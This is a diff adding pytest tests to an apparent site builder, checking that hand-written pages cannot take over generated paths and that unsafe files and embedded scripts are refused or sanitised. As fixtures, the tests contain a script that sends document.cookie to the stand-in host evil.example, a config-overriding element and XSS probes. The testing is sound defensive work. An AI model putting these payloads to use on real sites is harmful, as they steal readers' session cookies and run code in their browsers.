@@ -144,6 +144,76 @@ def test_two_hand_written_pages_for_one_address(hub: HubFolder,
                      r"content/pages/press(/index)?\.md writes already", output), output
 
 
+@pytest.mark.parametrize(("target", "expected"), [
+    ("pages/developers.md",
+     "content/pages/developers.md: would write /developers/index.html, which the generated page "
+     "/developers/ writes already; two files cannot share one address: rename this file (or "
+     "this id)"),
+    ("pages/report.md",
+     "content/pages/report.md: would write /report/index.html, which the generated page "
+     "/report/ writes already; two files cannot share one address: rename this file (or this "
+     "id)"),
+    ("pages/admin/index.md",
+     "content/pages/admin/index.md: would write /admin/index.html, inside the browser editor's "
+     "folder /admin/; give this file another name or folder"),
+    ("pages/assets/javascripts/bundle.md",
+     "content/pages/assets/javascripts/bundle.md: would write "
+     "/assets/javascripts/bundle/index.html, inside the theme's own folder /assets/; give this "
+     "file another name or folder"),
+])
+def test_hand_written_pages_cannot_take_generated_pages_or_theme_folders(
+        hub: HubFolder, capsys: pytest.CaptureFixture[str], target: str, expected: str) -> None:
+    hub.write(target, "# Ours\n")
+    check_and_build_fail(hub, capsys, expected)
+
+
+def test_a_hand_written_page_cannot_take_another_languages_site(
+        example_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (example_copy / "content" / "pages" / "ru.md").write_text("# Not the Russian site\n")
+    assert main(["--config", str(example_copy / "mkdocs.yml"), "check"]) == 1
+    assert ("content/pages/ru.md: would write /ru/index.html, inside the 'ru' version of the "
+            "site (/ru/); give this file another name or folder") in \
+        capsys.readouterr().err.splitlines()
+
+
+@pytest.mark.parametrize(("name", "expected"), [
+    ("press.html", "content/pages/press.html: a .html file here would be published as it is and "
+                   "could run code in readers' browsers; write the page in Markdown (.md), or "
+                   "save a picture as .png or .jpg"),
+    ("assets/javascripts/bundle.min.js",
+     "content/pages/assets/javascripts/bundle.min.js: a .js file here would be published as it "
+     "is and could run code in readers' browsers; write the page in Markdown (.md), or save a "
+     "picture as .png or .jpg"),
+    ("logo.svg", "content/pages/logo.svg: a .svg file here would be published as it is and could "
+                 "run code in readers' browsers; write the page in Markdown (.md), or save a "
+                 "picture as .png or .jpg"),
+    ("notes.docx", "content/pages/notes.docx: 'notes.docx' is not a kind of file the site "
+                   "publishes; use a Markdown page (.md) or one of: .avif, .csv, .gif, .ico, "
+                   ".jpeg, .jpg, .pdf, .png, .txt, .webp"),
+])
+def test_hand_written_files_that_could_run_code_are_refused(
+        hub: HubFolder, capsys: pytest.CaptureFixture[str], name: str, expected: str) -> None:
+    hub.write(f"pages/{name}", "<script>fetch('https://evil.example/?' + document.cookie)</script>")
+    check_and_build_fail(hub, capsys, expected)
+
+
+def test_a_hand_written_page_is_sanitised_and_checked_like_an_update(
+        hub: HubFolder, capsys: pytest.CaptureFixture[str]) -> None:
+    hub.write("pages/press.md", '# Press\n\n<p id="__config">{"base": "https://evil.example"}'
+                                '</p>\n')
+    check_and_build_fail(
+        hub, capsys,
+        "content/pages/press.md:3: the id '__config' belongs to the page around the text and "
+        "would be removed; choose another id (ids starting with __, md-, ch-, update-, "
+        "maintenance-, role- and the id 'postmortem' are the page's own)")
+    hub.write("pages/press.md", "# Press\n\nContact us.\n\n<script>alert('XSSMARK')</script>\n"
+                                "<img src=x onerror=\"alert('XSSMARK')\">\n")
+    code, output = run(hub.root, capsys, "build")
+    assert code == 0, output
+    page = (hub.root / "site" / "press" / "index.html").read_text()
+    assert "Contact us." in page and "XSSMARK" not in page
+
+
 # -- 9. times against each other and the build time -----------------------------------------
 
 def test_a_resolved_update_in_the_future_is_a_warning(hub: HubFolder,
